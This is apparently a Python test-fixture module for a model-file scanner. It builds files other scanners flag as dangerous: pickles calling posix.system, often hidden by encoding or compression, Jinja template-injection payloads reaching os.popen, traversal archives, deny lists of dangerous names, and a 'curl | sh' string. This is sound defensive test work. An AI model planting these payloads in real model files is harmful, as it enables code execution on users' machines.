"""What the test suites of other scanners call dangerous, recreated: the names that a pickle would import and the tricks
of hiding it, as facts with their source. None of their code is here, and nothing is ever loaded.

Sources: picklescan 1.0.5 (tests/init_data_files.py, tests/test_scanner.py, and its list of names), modelscan 0.8.8
(tests/test_modelscan.py, its settings), modelaudit 0.2.54 (its tests and lists), and the public advisories they name.
"""

from __future__ import annotations

import base64
import bz2
import gzip
import io
import json
import lzma
import pickle
import stat
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable

import numpy as np

# "module|Name.of.an.attribute" where the name has dots, else the last dot divides.
PICKLESCAN = """
builtins.eval builtins.exec builtins.compile builtins.open builtins.getattr builtins.breakpoint builtins.__import__
__builtin__.eval __builtin__.apply __builtin__.exec posix.system nt.system os.system httplib.HTTPSConnection
requests.api.get aiohttp.client.ClientSession socket.create_connection subprocess.run sys.exit _pickle.loads pickle.loads
runpy._run_code bdb|Bdb.run bdb.Bdb pip.main torch._inductor.codecache.compile_file pydoc.pipepager pydoc.locate
torch.serialization.load torch.load venv.create timeit.timeit numpy.testing._private.utils.runstring
torch.utils.bottleneck.__main__.run_cprofile torch.utils.bottleneck.__main__.run_autograd_prof
torch._dynamo.guards|GuardBuilder.get torch.utils.collect_env.run torch.utils.collect_env.run_and_read_all
torch.fx.experimental.symbolic_shapes|ShapeEnv.evaluate_guards_expression torch.jit.unsupported_tensor_ops.execWrapper
torch.utils.data.datapipes.utils.decoder.basichandlers torch.utils._config_module|ConfigModule.load_config
trace|Trace.run trace|Trace.runctx profile|Profile.run profile|Profile.runctx profile.run cProfile.run cProfile.runctx
lib2to3.pgen2.grammar|Grammar.loads lib2to3.pgen2.pgen|ParserGenerator.make_label
idlelib.debugobj|ObjectTreeItem.SetText idlelib.autocomplete|AutoComplete.get_entity
idlelib.autocomplete|AutoComplete.fetch_completions idlelib.calltip|Calltip.fetch_tip idlelib.calltip.get_entity
idlelib.run|Executive.runcode idlelib.pyshell|ModifiedInterpreter.runcode
idlelib.pyshell|ModifiedInterpreter.runcommand code|InteractiveInterpreter.runcode ensurepip._run_pip
doctest.debug_script asyncio.unix_events|_UnixSubprocessTransport._start distutils.file_util.write_file ctypes.CDLL
operator.methodcaller operator.attrgetter operator.itemgetter _operator.methodcaller _operator.attrgetter
_operator.itemgetter pty.spawn numpy.f2py.crackfortran.getlincoef _io.FileIO logging.FileHandler urllib.request.urlopen
cloudpickle.cloudpickle._make_function cloudpickle.cloudpickle._builtin_type cloudpickle.cloudpickle.subimport
cloudpickle.cloudpickle._make_cell cloudpickle.cloudpickle._make_empty_cell cloudpickle.cloudpickle._function_setstate
types.CodeType pkgutil.resolve_name ssl.get_server_certificate linecache.getline importlib.import_module marshal.loads
uuid._get_command_stdout _osx_support._read_output _aix_support._read_cmd_output _pyrepl.pager.pipe_pager
imaplib.IMAP4_stream test.support.script_helper.assert_python_ok commands.getoutput shutil.rmtree webbrowser.open
asyncio.run pdb.run
""".split()
MODELSCAN = """
mailcap.findmatch ctypes.CDLL ctypes.util.find_library signal.raise_signal _signal.raise_signal
http.client.HTTPSConnection urllib.request.urlopen dill._dill._create_code runpy.run_path
""".split()
MODELAUDIT = """
_ctypes.dlopen _posixsubprocess.fork_exec _thread.start_new_thread codeop.compile_command compileall.compile_file
dill._dill._import_module filecmp.cmp fileinput.input ftplib.FTP httpx.get mmap.mmap multiprocessing.Process
nntplib.NNTP ntpath.join pexpect.spawn poplib.POP3 posixpath.join py_compile.compile select.select selectors.DefaultSelector
shelve.open smtplib.SMTP socketserver.TCPServer sqlite3.connect syslog.syslog telnetlib.Telnet threading.Thread
urllib2.urlopen xmlrpc.client.ServerProxy zipimport.zipimporter _functools.reduce _tkinter|TkappType.eval
aifc.open argparse.FileType base64.b64decode bz2.open codecs.decode codecs.open configparser|ConfigParser.read
contextvars|Context.run copyreg.add_extension csv|DictWriter.writerow dataclasses._create_fn decimal.setcontext
dotenv.set_key functools.cmp_to_key functools.lru_cache functools.reduce functools.singledispatch gzip.open
itertools.dropwhile itertools.groupby lzma.open mailbox.Maildir numpy.savetxt pipes|Template.open string|Formatter.get_field
sunau.open typing._eval_type typing.get_type_hints uuid.getnode uuid._popen warnings.simplefilter wave.open
builtins.map builtins.filter builtins.setattr builtins.delattr builtins.vars builtins.globals builtins.input
pandas.eval numexpr.eval
""".split()


def names() -> dict[str, tuple[str, str]]:
    """Name as written above -> (module, name)."""
    found = {}
    for text in (*PICKLESCAN, *MODELSCAN, *MODELAUDIT):
        module, _, name = text.partition("|") if "|" in text else text.rpartition(".")
        found[text] = module, name
    return found


# -- writing pickles by hand ------------------------------------------------------------------------------------------


def _short(text: str) -> bytes:
    raw = text.encode()
    return b"\x8c" + bytes([len(raw)]) + raw


def calling(module: str, name: str, *, protocol: int = 4, argument: str = "id") -> bytes:
    """A pickle that calls module.name(argument)."""
    if protocol == 0:
        return f"c{module}\n{name}\n(V{argument}\ntR.".encode()
    return b"\x80\x04" + _short(module) + _short(name) + b"\x93" + _short(argument) + b"\x85R."


EVIL = calling("posix", "system")
EVIL_0 = calling("posix", "system", protocol=0)
HARMLESS = pickle.dumps({"epoch": 3, "name": "run"}, 4)


def holding(value: object) -> bytes:
    """A pickle with the value among its own."""
    return pickle.dumps({"blob": value}, 4)


# -- writing archives -------------------------------------------------------------------------------------------------


def zipped(files: dict[str, bytes], method: int = zipfile.ZIP_STORED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def tarred(files: dict[str, bytes], links: dict[str, str] | None = None) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        for name, content in files.items():
            info = tarfile.TarInfo(name)
            info.size = len(content)
            archive.addfile(info, io.BytesIO(content))
        for name, target in (links or {}).items():
            info = tarfile.TarInfo(name)
            info.type, info.linkname = tarfile.SYMTYPE, target
            archive.addfile(info)
    return buffer.getvalue()


def torch_zip(main: bytes = HARMLESS, more: dict[str, bytes] | None = None) -> bytes:
    return zipped({"archive/data.pkl": main, "archive/version": b"3\n", **(more or {})})


def flagged(data: bytes, bit: int, *, central: bool = True, local: bool = True) -> bytes:
    """A zip of one member with a flag of its headers set, and its bytes as they were."""
    made = bytearray(data)
    if local:
        made[6] |= bit
    if central:
        made[made.index(b"PK\x01\x02") + 8] |= bit
    return bytes(made)


def _zip_link(target: str) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        entry = zipfile.ZipInfo("link.pt")
        entry.external_attr = (stat.S_IFLNK | 0o777) << 16
        archive.writestr(entry, target)
    return buffer.getvalue()


def _doubled(name: str, first: bytes, second: bytes) -> bytes:
    """A zip with two members of one name."""
    return zipped({name: first, "#" * len(name): second}).replace(b"#" * len(name), name.encode())


def safetensors(metadata: object) -> bytes:
    header = json.dumps({"w": {"dtype": "U8", "shape": [1], "data_offsets": [0, 1]}, "__metadata__": metadata}).encode()
    return struct.pack("<Q", len(header)) + header + b"\0"


def gguf(texts: dict[str, str]) -> bytes:
    def text(value: str) -> bytes:
        return struct.pack("<Q", len(value.encode())) + value.encode()

    out = b"GGUF" + struct.pack("<IQQ", 3, 0, len(texts))
    for key, value in texts.items():
        out += text(key) + struct.pack("<I", 8) + text(value)
    return out + bytes(-len(out) % 32)


def _field(number: int, raw: bytes) -> bytes:
    n, length = len(raw), b""
    while n >= 0x80:
        length += bytes([n & 0x7F | 0x80])
        n >>= 7
    return bytes([number << 3 & 0x7F | 2]) + length + bytes([n]) + raw


def onnx(operator: str = "Relu", *, attribute: bytes = b"", properties: dict[str, str] | None = None) -> bytes:
    """A model of one operator."""
    node = _field(1, b"x") + _field(2, b"y") + _field(4, operator.encode()) + attribute
    graph = _field(1, node) + _field(2, b"g")
    more = b"".join(_field(14, _field(1, k.encode()) + _field(2, v.encode())) for k, v in (properties or {}).items())
    return b"\x08\x08" + _field(7, graph) + _field(8, _field(1, b"") + b"\x10\x0d") + more


def onnx_elsewhere(place: str) -> bytes:
    """A model whose constant, inside an operator, lies in another file."""
    tensor = b"\x08\x01\x10\x01" + _field(8, b"t") + _field(13, _field(1, b"location") + _field(2, place.encode()))
    return onnx("Constant", attribute=_field(5, _field(1, b"value") + _field(5, tensor + b"\x70\x01")))


def _saved_model(*operators: str) -> bytes:
    """A TensorFlow SavedModel with a graph of these operators."""
    nodes = b"".join(_field(1, _field(1, b"n") + _field(2, op.encode())) for op in operators)
    return b"\x08\x01" + _field(2, _field(2, nodes))


def _keras(config: object) -> bytes:
    return zipped({"config.json": json.dumps(config).encode(), "metadata.json": b'{"keras_version": "3.5.0"}'})


class _Objects:
    def __reduce__(self) -> tuple[object, ...]:
        return (eval, ("1",))


def _npy(pickled: object) -> bytes:
    buffer = io.BytesIO()
    np.save(buffer, np.array([pickled], dtype=object), allow_pickle=True)
    return buffer.getvalue()


def _npz(save: Callable[..., None]) -> bytes:
    buffer = io.BytesIO()
    save(buffer, a=np.array([_Objects()], dtype=object))
    return buffer.getvalue()


def dangerous() -> dict[str, bytes]:
    """File name -> bytes of everything that another scanner's suite calls dangerous, beside the bare names."""
    text = base64.b64encode(EVIL).decode()
    return {
        # picklescan and modelscan
        "sour_pickles.pkl": b"c__builtin__\nglobals\n(tRp100\n0c__builtin__\ncompile\n(S'f=1'\nS''\nS'exec'\ntRp101\n0"
        b"c__builtin__\neval\n(g101\ng100\ntRp102\n0c__builtin__\ngetattr\n(c__builtin__\ndict\nS'get'\ntRp103\n0"
        b"c__builtin__\napply\n(g103\n(g100\nS'picklesmashed'\nltRp104\n0g104\n.",
        "inst.pkl": b"(S'1'\ni__builtin__\nexec\n.",
        "names_by_memo.pkl": b"Vos\np2\n0Vsystem\np3\n0Vtorch\np0\n0VLongStorage\np1\n0g2\ng3\n\x93(Vid\ntR.",
        "bytes_behind.pkl": b"Vos\np2\n0Vsystem\np3\n0g2\ng3\n\x93(Vid\ntR.\n\n\t\t",
        "strings.pkl": b"S'os'\nS'system'\n\x93S'ls'\n\x85R.",
        "memo_never_filled.pkl": b"\x80\x04cos\nsystem\nVid\n\x85R0\x8c\x02os\x94h\x03h\x00\x93K\x42.",
        "memo_of_a_number.pkl": b"\x80\x04cos\nsystem\nVid\n\x85R0J*\0\0\0\x94\x8c\x02os\x94h\x00h\x01\x93K\x42.",
        "breaks_before_the_call.txt": b"cbuiltins\nexec\n(X>\nf = open('f', 'a'); f.write('x'); f.close()tRX.",
        "only_named.txt": b"cbuiltins\nexec",
        "second_stream.pkl": HARMLESS + EVIL,
        "pickle_in_pickle.pkl": b"\x80\x05cpickle\nloads\nB" + struct.pack("<I", len(EVIL)) + EVIL + b"\x85R0N.",
        "attribute_of_a_name.pkl": b"\x80\x05cbuiltins\neval.__call__\nV1\n\x85R.",
        "partial_of_load.pkl": b"\x80\x04cfunctools\npartial\n(ctorch.serialization\nload\nVx.bin\ntR)R.",
        "resolver.pkl": b"\x80\x02cpkgutil\nresolve_name\nVos:system\n\x85RVid\n\x85R.",
        "module_changed.pkl": b"\x80\x02ctorch\n_utils\n}V_rebuild_tensor\nctorch._utils\n_rebuild_parameter\nsb0N.",
        "function_changed.pkl": b"\x80\x02ctorch._utils\n_rebuild_tensor_v2\n}V__defaults__\nNsb0N.",
        "items_of_an_import.pkl": b"\x80\x02ccollections\nOrderedDict\nVx\nNs.",
        "no_mark.dat": EVIL[2:],
        "framed_no_mark.dat": b"\x95" + struct.pack("<Q", len(EVIL) - 2) + EVIL[2:],
        "picture_that_is_a_pickle.gif": b"GIF89a..." + b"0" + EVIL_0,
        "dangerous.dill": EVIL, "dangerous.joblib": EVIL, "dangerous.data": EVIL, "pickle.npy": EVIL,
        "objects.npy": _npy(_Objects()), "objects.npz": _npz(np.savez), "objects_packed.npz": _npz(np.savez_compressed),
        "torch.pt": torch_zip(EVIL), "picture.pt": b"\x89PNG\r\n\x1a\n",
        "zip.zip": zipped({"data.pkl": EVIL}), "zip_text.zip": zipped({"data.txt": EVIL}),
        "zip_other_name_in_front.zip": zipped({"data.pkl": EVIL}).replace(b"data.pkl", b"datap.kl", 1),
        "zip_checksum.zip": zipped({"data.pkl": EVIL}).replace(b"\x8c\x02id", b"\x8c\x02di", 1),
        "archive.7z": b"7z\xbc\xaf\x27\x1c\x00\x04" + bytes(64), "archive.rar": b"Rar!\x1a\x07\x01\x00" + bytes(64),
        "archive.zst": b"\x28\xb5\x2f\xfd" + bytes(64), "archive.lz4": b"\x04\x22\x4d\x18" + bytes(64),
        "lambda.keras": _keras({"class_name": "Functional", "config": {"layers": [{"class_name": "Lambda"}]}}),
        "popen.keras": _keras({"class_name": "S", "config": {"layers": [{"module": "subprocess"}]}}),
        "weights.h5": b"\x89HDF\r\n\x1a\n" + bytes(500) + b'keras_version "class_name": "Lambda"',
        "reads/saved_model.pb": _saved_model("Placeholder", "ReadFile"),
        "python/saved_model.pb": _saved_model("Placeholder", "PyFunc"),
        # modelaudit
        "base64.pkl": holding(text), "urlsafe.pkl": holding(base64.urlsafe_b64encode(EVIL).decode()),
        "wrapped.pkl": holding(base64.encodebytes(EVIL * 3).decode()), "unpadded.pkl": holding(text.rstrip("=")),
        "base64_of_protocol_0.pkl": holding(base64.b64encode(EVIL_0).decode()),
        "hex.pkl": holding(EVIL.hex()), "upper_hex.pkl": holding(EVIL.hex().upper()),
        "hex_of_protocol_0.pkl": holding(EVIL_0.hex()),
        "escaped.pkl": holding("".join(f"\\x{byte:02x}" for byte in EVIL)),
        "base64_of_zlib.pkl": holding(base64.b64encode(zlib.compress(EVIL)).decode()),
        "base64_of_gzip.pkl": holding(base64.b64encode(gzip.compress(EVIL)).decode()),
        "base64_of_bz2.pkl": holding(base64.b64encode(bz2.compress(EVIL)).decode()),
        "base64_of_xz.pkl": holding(base64.b64encode(lzma.compress(EVIL)).decode()),
        "base64_twice.pkl": holding(base64.b64encode(text.encode()).decode()),
        "base64_behind_a_word.pkl": holding(f"prefix:{text}"), "base64_in_code.pkl": holding(f"f(b64decode('{text}'))"),
        "base64_bytes.pkl": holding(text.encode()), "zlib_bytes.pkl": holding(zlib.compress(EVIL)),
        "protocol_0_text.pkl": holding(EVIL_0.decode()), "protocol_0_bytes.pkl": holding(EVIL_0),
        "data_address.pkl": holding(f"data:application/octet-stream;base64,{text}"),
        "as_a_key.pkl": pickle.dumps({text: 1}, 4), "protocol_2_text.pkl": pickle.dumps([text], 2),
        "zip_in_zip.zip": zipped({"inner.zip": zipped({"x.bin": EVIL})}),
        "tar_in_zip.zip": zipped({"inner.tar": tarred({"x": EVIL})}, zipfile.ZIP_DEFLATED),
        "gzip_in_tar.tar": tarred({"readme": b"hello\n", "x.gz": gzip.compress(EVIL)}),
        "clean_beside_dangerous.zip": zipped({"model.pt": torch_zip(), "notes.json": EVIL}),
        "two_of_one_name.zip": _doubled("a.pkl", HARMLESS, EVIL),
        "junk_of_another_system.zip": zipped({"model.pt": torch_zip(), "__MACOSX/._model.pt": EVIL}),
        "folder_with_content.zip": zipped({"model.pt": torch_zip(), "folder/": EVIL}),
        "flag_1.zip": flagged(zipped({"data.pkl": EVIL}), 0x1),
        "flag_1_in_front_only.zip": flagged(zipped({"data.pkl": EVIL}), 0x1, central=False),
        "flag_1_in_the_directory_only.zip": flagged(zipped({"data.pkl": EVIL}), 0x1, local=False),
        "flag_20.zip": flagged(zipped({"data.pkl": EVIL}), 0x20), "flag_40.zip": flagged(zipped({"d.pkl": EVIL}), 0x40),
        "leads_outside.zip": zipped({"../../evil.txt": b"x"}), "leads_outside.tar": tarred({"../evil.txt": b"x"}),
        "link_outside.tar": tarred({"a.txt": b"x"}, {"l": "/etc/passwd"}), "link_outside.zip": _zip_link("../../etc/x"),
        "behind_text.zip": b"#!/bin/sh\nexit\n" + zipped({"x.pkl": EVIL}),
        "behind_a_prelude.txt": b"harmless prelude\n" + EVIL, "behind_a_mark.bin": b"\xef\xbb\xbf" + EVIL_0,
        "behind_a_comment.dat": b"#" + EVIL_0,
        "packed.pkl.gz": gzip.compress(EVIL), "packed.bz2": bz2.compress(EVIL), "packed.xz": lzma.compress(EVIL),
        "packed.zlib": zlib.compress(EVIL), "packed.lzma": lzma.compress(EVIL, format=lzma.FORMAT_ALONE),
        "second_gzip.gz": gzip.compress(HARMLESS) + gzip.compress(EVIL),
        "in_a_member_of_torch.pt": torch_zip(more={"archive/extra/x": EVIL}),
        "archive_in_torch.pt": torch_zip(more={"archive/extra/x.tgz": gzip.compress(tarred({"x": EVIL}))}),
        "sealed_archive_in_torch.pt": torch_zip(more={"archive/extra/x.7z": b"7z\xbc\xaf\x27\x1c\x00\x04" + bytes(64)}),
        "pickle_in_metadata.safetensors": safetensors({"payload": text}),
        "template.gguf": gguf({"tokenizer.chat_template": "{{ ''.__class__.__mro__[1].__subclasses__() }}"}),
        "long_template.gguf": gguf({"tokenizer.chat_template": "{# " + "x" * 5000 + " #}{{ cycler.__init__ }}"}),
        "template.json": json.dumps({"chat_template": "{{ self.__init__.__globals__ }}"}).encode(),
        "escapes.json": json.dumps({"chat_template": "{{ x['\\x5f\\x5fclass\\x5f\\x5f'] }}"}).encode(),
        "chat.jinja": b"{% for m in messages %}{{ lipsum.__globals__.os.popen('id') }}{% endfor %}",
        "python.onnx": onnx("PythonOp"), "py_func.onnx": onnx("MY_PY_FUNC"),
        "elsewhere.onnx": onnx_elsewhere("weights/../../../tmp/x"),
        "pickle_in_properties.onnx": onnx(properties={"payload": EVIL.hex()}),
        "model.nemo": tarred({"model_config.yaml": b"model:\n  _target_: os.system\n  command: id\n"}),
        "function.nemo": tarred({"model_config.yaml": b"model:\n  _target_: transformers.utils.hub.cached_file\n"}),
        "pipeline.skops": zipped({"schema.json": b'{"__class__": "x", "__module__": "os", "__loader__": "y"}'}),
        "program.llamafile": b"\x7fELF\x02\x01\x01" + bytes(60),
    }  # fmt: skip


def inert() -> dict[str, tuple[bytes, str]]:
    """File name -> (bytes, id of the finding that says why) of what modelaudit calls dangerous and nothing runs."""
    return {
        "import.safetensors": (safetensors({"info": "import os; os.system('id')"}), "program-in-metadata"),
        "script.safetensors": (safetensors({"info": "<script>alert(1)</script>"}), "program-in-metadata"),
        "handler.safetensors": (safetensors({"info": "<body onload=run()>"}), "program-in-metadata"),
        "shell.safetensors": (safetensors({"info": "curl http://x.invalid | sh"}), "program-in-metadata"),
        "address.safetensors": (safetensors({"info": "see http://x.invalid/payload"}), "address-in-metadata"),
        "address.onnx": (onnx(properties={"callback": "https://x.invalid/payload"}), "address-in-metadata"),
        "custom.onnx": (
            onnx("BackdoorOp", attribute=_field(7, b"com.evil")),
            "custom-operators",
        ),
        "text.pkl": (holding("os.system('id')"), "program-in-text"),
        "source.pt": (
            torch_zip(more={"archive/data/payload.bin": b"\0import ctypes\nctypes.CDLL('x')\n"}),
            "stray-members",
        ),
        "handler.zip": (zipped({"handler.py": b"import os\nos.system('id')\n"}), "program-inside"),
        "handler.tar": (tarred({"handler.py": b"import os\nos.system('id')\n"}), "program-inside"),
    }


def quiet() -> dict[str, bytes]:
    """File name -> bytes of ordinary files, none of which may be a warning."""
    image = base64.b64encode(bytes(range(256)) * 8).decode()
    template = "{% for m in messages %}{{ '<|' + m['role'] + '|>' + m['content'] | trim }}{% endfor %}"
    return {
        "clean.pt": torch_zip(), "clean.zip": zipped({"model.pt": torch_zip(), "README.txt": b"hello\n"}),
        "clean.tar.gz": gzip.compress(tarred({"m/model.pt": torch_zip(), "m/config.json": b"{}"})),
        "two.zip": zipped({"a.pt": torch_zip(), "b.pt": torch_zip()}), "texts.zip": zipped({"a.txt": b"a\n", "b.csv": b"1,2\n"}),
        "clean.npy": _plain_npy(), "clean.safetensors": safetensors({"format": "pt"}),
        "image.pkl": holding(image), "digest.pkl": holding("9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"),
        "names.pkl": pickle.dumps({f"encoder.layers.{n}.self_attn.out_proj.weight": n for n in range(50)}, 4),
        "prose.pkl": holding("class Net:\n    def forward(self):\n        return exec\n"),
        "cosine.txt": b"cos\nsin\ntan\n", "list.txt": b"ctypes\nnumpy\ntorch\n", "vocabulary.txt.gz": gzip.compress(b"the\na\n"),
        "object.zlib": zlib.compress(b"blob 5\0hello"), "chat.json": json.dumps({"chat_template": template}).encode(),
        "chat.gguf": gguf({"tokenizer.chat_template": template, "general.name": "x"}),
        "config.yaml": b"model:\n  _target_: torch.nn.Linear\noptim:\n  _target_: src.optim.build\n  _partial_: true\n",
        "clean.onnx": onnx(),
    }  # fmt: skip


def _plain_npy() -> bytes:
    buffer = io.BytesIO()
    np.save(buffer, np.arange(4.0))
    return buffer.getvalue()
